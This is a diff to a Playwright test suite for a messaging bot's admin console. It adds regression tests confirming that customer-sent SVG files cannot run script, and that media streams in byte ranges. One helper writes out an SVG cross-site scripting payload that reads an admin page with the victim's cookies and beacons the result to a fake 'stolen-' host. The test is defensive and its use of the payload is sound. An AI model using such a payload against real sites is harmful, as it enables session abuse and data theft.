@@ -3,6 +3,7 @@ its credentials (the browser cannot), and the transcript beside it."""
 
 from __future__ import annotations
 
+import time
 from collections.abc import Callable, Iterator
 
 import httpx
@@ -11,8 +12,8 @@ from playwright.sync_api import Page, expect
 
 from bot.settings import Settings
 from tests.bot.web.console.conftest import ADMIN, Console
-from tests.conftest import ACCOUNT_SID, VOICE_NOTE, Db, settle
-from tests.fakes import FakeOpenAI, FakeTwilio
+from tests.conftest import ACCOUNT_SID, VOICE_NOTE, Db, settle, wait_for
+from tests.fakes import FakeMediaHost, FakeOpenAI, FakeTwilio
 from tests.live import LiveServer, free_port
 
 ANA, CUSTOMER = "+14155238886", "+573001112233"
@@ -67,3 +68,111 @@ def test_a_voice_note_plays_from_the_console_with_its_transcript(
     console.sign_in(page, other)
     cookies = {c["name"]: c["value"] for c in page.context.cookies()}
     assert httpx.get(source, cookies=cookies, timeout=10).status_code == 404  # not another advisor's
+
+
+def _attack_svg(beacon: str) -> bytes:
+    """An SVG whose script reports that it ran, and what it could read of the console."""
+    return f"""<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>
+fetch("{beacon}ran", {{mode: "no-cors"}});
+fetch(location.origin + "/console/admin/advisors", {{credentials: "include"}})
+  .then(r => r.text()).then(t => fetch("{beacon}read?n=" + t.length, {{mode: "no-cors"}}));
+</script><rect width="10" height="10"/></svg>""".encode()
+
+
+def test_a_customers_svg_never_runs_script_on_the_consoles_origin(
+    console: Console, page: Page, media_host: FakeMediaHost
+) -> None:
+    """Issue 23, finding 1: the SVG that minted an admin token, clicked and opened, runs nothing."""
+    ana = console.db.add_advisor("Ana", ANA)
+    beacon = media_host.url + "stolen-"
+    media_host.files["MEsvg"] = (_attack_svg(beacon), "image/svg+xml")
+
+    def ran() -> list[str]:
+        return [r["path"] or "" for r in media_host.requests if "stolen-" in (r["path"] or "")]
+
+    # Control: opened on the sender's own origin the script does run in this Chromium.
+    page.goto(media_host.url + "MEsvg")
+    wait_for(lambda: len(ran()) == 2, timeout=10, what="the SVG's script to run on its own origin")
+    media_host.requests.clear()
+
+    announced = {
+        "+573001110001": "application/octet-stream",  # drawn as a link: one click opened it
+        "+573001110002": "image/svg+xml",  # drawn as a picture until now
+        "+573001110003": "image/png",  # a picture whose server says SVG
+        "+573001110004": "text/html",
+    }
+    for customer, declared in announced.items():
+        url = f"{console.twilio.url}/2010-04-01/Accounts/{ACCOUNT_SID}/Messages/MM{customer[1:]}/Media/MEsvg"
+        answer = console.inbound(ANA, customer, "", NumMedia="1", MediaContentType0=declared, MediaUrl0=url)
+        assert answer.status_code == 200
+    settle(console.db)
+    tokens_before = console.db.query("SELECT count(*) AS n FROM advisor_tokens")[0]["n"]
+    console.sign_in_as_admin(page)
+    cookies = {c["name"]: c["value"] for c in page.context.cookies()}
+
+    for customer, declared in announced.items():
+        row = console.db.query(
+            "SELECT c.conversation_id FROM chat_history c WHERE c.advisor_id = %s AND c.phone_number = %s",
+            (ana, customer),
+        )[0]
+        page.goto(f"{console.base}/console/c/{row['conversation_id']}")
+        bubble = page.locator("[data-testid=message][data-author=customer]")
+        if declared == "image/png":
+            source = bubble.locator("img").get_attribute("src")
+            assert source
+            page.goto(source)  # "open image in new tab"
+        else:
+            link = bubble.get_by_test_id("media-file")
+            assert link.get_attribute("download") is not None
+            source = link.get_attribute("href")
+            assert source
+            with page.expect_download() as download:
+                link.click()
+            assert download.value.url == source
+        served = httpx.get(source, cookies=cookies, timeout=10)
+        assert served.status_code == 200 and served.content.startswith(b"<svg")
+        assert served.headers["content-security-policy"] == "default-src 'none'; sandbox"
+        assert served.headers["x-content-type-options"] == "nosniff"
+        if declared == "image/png":
+            assert served.headers["content-type"] == "image/png"
+            assert served.headers["content-disposition"] == "inline"
+        else:
+            assert served.headers["content-type"] == "application/octet-stream"
+            assert served.headers["content-disposition"].startswith("attachment")
+        refused = httpx.get(source, timeout=10, follow_redirects=False)  # no session: to sign-in
+        assert refused.status_code == 303
+        assert refused.headers["content-security-policy"] == "default-src 'none'; sandbox"
+        missing = httpx.get(source.rsplit("/", 1)[0] + "/7", cookies=cookies, timeout=10)
+        assert missing.status_code == 404 and missing.headers["x-content-type-options"] == "nosniff"
+
+    time.sleep(1.5)  # the control above beaconed within milliseconds
+    assert ran() == []
+    assert console.db.query("SELECT count(*) AS n FROM advisor_tokens")[0]["n"] == tokens_before
+
+
+def test_the_media_proxy_streams_from_a_bounded_cache_and_honours_range(
+    console: Console, page: Page, media_host: FakeMediaHost
+) -> None:
+    """Issue 23, finding 18: a file is fetched from Twilio once, served in ranges, never held whole."""
+    ana = console.db.add_advisor("Ana", ANA)
+    video = bytes(range(256)) * 4096  # 1 MiB
+    media_host.files["MEvideo"] = (video, "video/mp4")
+    url = f"{console.twilio.url}/2010-04-01/Accounts/{ACCOUNT_SID}/Messages/MM{'3' * 32}/Media/MEvideo"
+    console.inbound(ANA, CUSTOMER, "", NumMedia="1", MediaContentType0="video/mp4", MediaUrl0=url)
+    settle(console.db)
+    console.sign_in(page, ana)
+    page.get_by_test_id("conversation-row").first.click()
+    source = page.locator("[data-testid=message][data-author=customer] video").get_attribute("src")
+    assert source
+    cookies = {c["name"]: c["value"] for c in page.context.cookies()}
+    fetched_before = sum(1 for r in media_host.requests if "MEvideo" in (r["path"] or ""))
+    whole = httpx.get(source, cookies=cookies, timeout=10)
+    assert whole.status_code == 200 and whole.content == video
+    assert whole.headers["content-type"] == "video/mp4" and whole.headers["accept-ranges"] == "bytes"
+    part = httpx.get(source, cookies=cookies, headers={"Range": "bytes=1000-1999"}, timeout=10)
+    assert part.status_code == 206 and part.content == video[1000:2000]
+    assert part.headers["content-range"] == f"bytes 1000-1999/{len(video)}"
+    for _ in range(5):
+        assert httpx.get(source, cookies=cookies, timeout=10).content == video
+    fetched = sum(1 for r in media_host.requests if "MEvideo" in (r["path"] or "")) - fetched_before
+    assert fetched <= 1  # the page's own player may have been the first view
